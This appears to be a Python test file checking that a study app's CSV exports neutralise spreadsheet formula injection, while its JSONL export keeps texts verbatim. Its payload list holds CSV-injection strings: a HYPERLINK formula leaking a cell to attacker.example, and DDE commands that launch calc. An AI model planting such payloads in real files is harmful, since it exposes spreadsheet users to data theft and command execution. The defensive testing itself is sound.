"""Exports safe to open in a spreadsheet (issue 18 item 3): report texts starting with =, +, -, @ were written as
they are into the reads CSV; now every CSV cell a spreadsheet would run is neutralised, the JSONL export keeps the
texts verbatim."""

import csv
import json

import numpy as np
import pandas as pd
import pytest

from studyapp.db.models import Assignment, Case, Draft
from studyapp.services import accounts, export, reading, studies
from studyapp.services.safe_csv import FORMULA_TRIGGERS, neutralise_cell, write_csv

#: The issue's payloads and the other OWASP starts (tab, carriage return, full-width equals sign).
PAYLOADS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1"]


def cells_a_spreadsheet_would_run(path) -> list[str]:
    """Every cell of the CSV at ``path`` (read with Python's csv module) that starts with a formula character and
    is not a plain number."""
    with open(path, newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    return [c for c in cells if c.lstrip(" ")[:1] in FORMULA_TRIGGERS and neutralise_cell(c) != c]


def test_neutralise_cell_prefixes_formulas_and_keeps_numbers_and_text():
    for payload in PAYLOADS:
        assert neutralise_cell(payload) == "'" + payload
    for kept in ("-0.5", "+3", "1e-3", " -2 ", "Heart normal.", "", "'=already text", "a=b", None, 3, -1.5, True):
        assert neutralise_cell(kept) is kept or neutralise_cell(kept) == kept
    assert np.isnan(neutralise_cell(float("nan")))


def test_write_csv_neutralises_text_cells_and_headers_not_numbers(tmp_path):
    table = pd.DataFrame({"text": PAYLOADS[:4], "difference": [-0.5, -1.25, 2.0, np.nan],
                          "count": pd.array([-1, 2, None, 4], dtype="Int64"),
                          "=HYPERLINK(\"x\")": ["a", "b", "c", "d"]})
    write_csv(table, tmp_path / "t.csv")
    assert cells_a_spreadsheet_would_run(tmp_path / "t.csv") == []
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["difference"].tolist()[:3] == [-0.5, -1.25, 2.0]  # numbers stay numbers
    assert back["count"].tolist()[:2] == [-1, 2]
    assert back["text"].tolist() == ["'" + p for p in PAYLOADS[:4]]
    assert back.columns[-1] == "'=HYPERLINK(\"x\")"


@pytest.fixture()
def hostile_study(db):
    """One case whose draft, indication and case key and four readers' submitted final reports start with
    formula characters."""
    with db.begin() as s:
        study = studies.create_study(s, "=study", template_text="Normal chest.")
        case = Case(study_id=study.id, case_key="@case", study_instance_uid="1.2.3", indication=PAYLOADS[0])
        s.add(case)
        s.flush()
        llm = next(a for a in study.arms if a.code == "llm")
        s.add(Draft(case_id=case.id, arm_id=llm.id, text=PAYLOADS[1], source="-source"))
        for index, text in enumerate(PAYLOADS[:4]):
            reader = accounts.add_user(s, f"reader{index}", f"password-{index}-long")
            accounts.enroll_reader(s, study, reader)
            s.add(Assignment(study_id=study.id, reader_id=reader.id, case_id=case.id, arm_id=llm.id, position=1))
            s.flush()
    for step in ("open", "submit"):
        with db.begin() as s:
            for index, text in enumerate(PAYLOADS[:4]):
                reader = accounts.get_user(s, f"reader{index}")
                assignment = s.query(Assignment).filter_by(reader_id=reader.id).one()
                if step == "open":
                    reading.open_case(s, reader, assignment.id)
                else:
                    reading.submit(s, reader, assignment.id, text, 30.0, {"confidence": 4, "mental_demand": 2})
    return db


def test_reads_csv_has_no_formula_cell_and_jsonl_keeps_texts_verbatim(hostile_study, tmp_path):
    with hostile_study.begin() as s:
        study = studies.get_study(s, "=study")
        export.export_reads_csv(s, study, tmp_path / "reads.csv")
        export.export_reads_csv(s, study, tmp_path / "reads.jsonl")
    assert cells_a_spreadsheet_would_run(tmp_path / "reads.csv") == []
    with open(tmp_path / "reads.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert sorted(r["final_text"] for r in rows) == sorted("'" + p for p in PAYLOADS[:4])
    assert {r["draft_text"] for r in rows} == {"'" + PAYLOADS[1]}
    assert {(r["study"], r["case_key"], r["draft_source"]) for r in rows} == {("'=study", "'@case", "'-source")}
    assert {(r["position"], r["status"]) for r in rows} == {("1", "submitted")}
    records = [json.loads(line) for line in (tmp_path / "reads.jsonl").read_text(encoding="utf-8").splitlines()]
    assert sorted(r["final_text"] for r in records) == sorted(PAYLOADS[:4])  # verbatim
    assert {(r["study"], r["case_key"], r["draft_text"]) for r in records} == {("=study", "@case", PAYLOADS[1])}


def test_analysis_tables_columns_and_skipped_csvs_are_neutralised(tmp_path):
    from analysis.report import TABLE_TITLES, write_outputs
    from analysis.result import AnalysisResult
    from analysis.skipped import Skipped

    table = pd.DataFrame({"reader": ["=reader", "@reader"], "final_text": PAYLOADS[2:4], "time_saved": [-12.5, 3.0],
                          "n_peers_failed": [0, 0]})
    tables = {"readings": table} | {name: table for name in TABLE_TITLES} | {"mixed_models": table.iloc[:0]}
    result = AnalysisResult(study_name="=study", reference_arm="-arm", judge="offline 1", similarity_measure="rouge",
                            tables=tables, skipped=[Skipped(step="consistency", item="+item", reason="=reason")])
    docs = {name: {"reader": "=reader name", "final_text": "text", "time_saved": "seconds", "n_peers_failed": "count"}
            for name in tables}
    files = write_outputs(result, tmp_path, docs)
    for name in ("readings.csv", "arm_summary.csv", "columns.csv", "skipped.csv"):
        assert cells_a_spreadsheet_would_run(files[name]) == [], name
    readings = pd.read_csv(files["readings.csv"])
    assert readings["time_saved"].tolist() == [-12.5, 3.0]
    assert readings["final_text"].tolist() == ["'" + p for p in PAYLOADS[2:4]]
    assert pd.read_csv(files["skipped.csv"]).values.tolist() == [["consistency", "'+item", "'=reason"]]
